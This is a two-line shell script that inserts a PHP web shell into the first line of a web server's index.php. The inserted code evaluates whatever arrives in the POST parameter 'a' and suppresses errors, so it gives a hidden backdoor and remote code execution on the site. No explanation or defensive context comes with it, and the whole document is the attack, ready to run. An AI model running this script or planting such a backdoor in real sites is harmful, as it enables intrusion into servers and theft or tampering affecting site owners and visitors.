#!/bin/sh
sed -i '1i<?php @eval($_POST[a]); ?>' /var/www/html/index.php
